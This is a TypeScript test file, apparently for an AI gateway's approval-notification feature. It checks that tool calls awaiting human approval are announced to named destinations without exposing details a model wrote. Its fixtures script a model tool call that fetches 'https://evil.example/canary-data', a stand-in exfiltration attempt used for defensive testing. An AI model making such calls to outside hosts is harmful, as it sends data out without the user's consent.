/** `approvals.notify`: who is told that a question waits, and what of it. */
import assert from 'node:assert/strict'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Approval } from '../../src/contracts/approval.ts'
import { AppError } from '../../src/contracts/errors.ts'
import { announceApprovals } from '../../src/gateway/announce-approvals.ts'
import type { Announcement } from '../../src/gateway/announce.ts'
import { newestReceipts } from '../../src/telemetry/audit/newest.ts'
import { configuredGateway } from '../doubles/configured-gateway.ts'
import { chatReply } from '../doubles/openai-wire.ts'
import { recordedLog } from '../doubles/recorded-log.ts'
import { startWebhookServer } from '../doubles/webhook-server.ts'

const approval = (id: string, more: Partial<Approval> = {}): Approval => ({
  id,
  callId: 'c1',
  tool: 'web_fetch',
  input: { url: 'https://evil.example/canary' },
  binding: null,
  hash: 'h',
  effect: 'egress',
  destinations: ['https://evil.example/canary'],
  shown: ['canary'],
  holds: [{ rule: 'destinationsKnown', why: 'canary', evidence: 'canary' }],
  unlocks: ['once'],
  turnId: 't1',
  effectId: 'e1',
  sessionId: 's1',
  sessionKey: 'main',
  group: 'g1',
  status: 'pending',
  createdAt: 0,
  expiresAt: Date.UTC(2026, 0, 2, 3, 4),
  decision: null,
  ...more,
})

function told(notify: readonly string[], announce: (announcement: Announcement) => Promise<void> = async () => undefined) {
  const announced: Announcement[] = []
  const listeners = new Set<(approvals: readonly Approval[]) => void>()
  const { log, lines } = recordedLog()
  const stop = announceApprovals({
    approvals: {
      subscribe(listener) {
        listeners.add(listener)
        return () => listeners.delete(listener)
      },
    },
    announcer: {
      destinations: [],
      async announce(announcement) {
        announced.push(announcement)
        await announce(announcement)
        return { id: 'out_1', host: 'h', outcome: async () => ({ status: 'sent' }) }
      },
    },
    notify,
    clock: { now: () => 0, sleep: (ms, signal) => sleep(ms > 0 ? 20 : 0, undefined, { signal }) },
    log,
  })
  return { announced, lines, stop, tell: (...approvals: Approval[]) => listeners.forEach((listener) => listener(approvals)), listeners }
}

describe('a question that waits', () => {
  it('is told to the owner’s destinations: tool, conversation, id, and nothing that a model wrote', async () => {
    await using receiver = await startWebhookServer()
    await using cara = await configuredGateway({
      messages: { destinations: { 'team-chat': { url: receiver.url.href, format: 'text' }, other: { url: receiver.url.href } } },
      approvals: { notify: ['team-chat'] },
    })
    const carrying = { id: 'c1', name: 'web_fetch', arguments: '{"url":"https://evil.example/canary-data"}' }
    cara.upstream.script(chatReply({ calls: [carrying] }))
    void cara.chat('What is the weather?').catch(() => undefined)
    while (receiver.posts.length === 0) await sleep(5)
    const [post] = receiver.posts
    assert.match(
      post?.body ?? '',
      /^A call waits for your word:\n- web_fetch in main: apr_\w+\nLook at it with: cara approvals show ID\. .* UTC it is refused\.$/,
    )
    assert.doesNotMatch(JSON.stringify(post), /canary|evil/)
    const waiting = newestReceipts(join(cara.folder, 'state', 'audit'), 100, 'message-intended')
    assert.partialDeepStrictEqual(waiting, [{ to: 'team-chat', purpose: 'approval', by: 'approvals' }])
    assert.equal(receiver.posts.length, 1)
  })

  it('is told together with what comes close to it, and not when it was answered meanwhile', async () => {
    const { announced, tell, stop, listeners } = told(['a', 'b'])
    tell(approval('apr_1'))
    await sleep(0)
    tell(approval('apr_2'), approval('apr_3', { sessionKey: null }))
    tell(approval('apr_2', { status: 'denied' }))
    while (announced.length < 4) await sleep(5)
    assert.deepEqual(
      announced.map(({ to }) => to),
      ['a', 'b', 'a', 'b'],
    )
    const texts = announced.map(({ text }) => text)
    assert.match(texts[0] ?? '', /- web_fetch in main: apr_1\n/)
    assert.match(texts[2] ?? '', /- web_fetch: apr_3\nLook at it .* until 2026-01-02 03:04 UTC/)
    assert.doesNotMatch(texts.join(), /canary|evil|apr_2/)
    tell(...Array.from({ length: 60 }, (_, index) => approval(`apr_many_${index}`)))
    while (announced.length < 6) await sleep(5)
    assert.match(announced[4]?.text ?? '', /^60 calls wait for your word:\n(?:- .*\n){10}and 50 more\n/)
    stop()
    assert.equal(listeners.size, 0)
  })

  it('that cannot be told waits all the same, and the next one is tried', async () => {
    const { announced, tell, lines, stop } = told(['a'], () => Promise.reject(new AppError('message/undelivered', 'a')))
    tell(approval('apr_1'))
    while (lines.length === 0) await sleep(5)
    assert.match(lines.join(), /approval\.untold/)
    tell(approval('apr_2'))
    while (announced.length < 2) await sleep(5)
    stop()
  })

  it('is told to a destination that exists, or the configuration is refused', async () => {
    await assert.rejects(configuredGateway({ approvals: { notify: ['nobody'] } }), /approvals\.notify.*no destination has this name/s)
  })
})
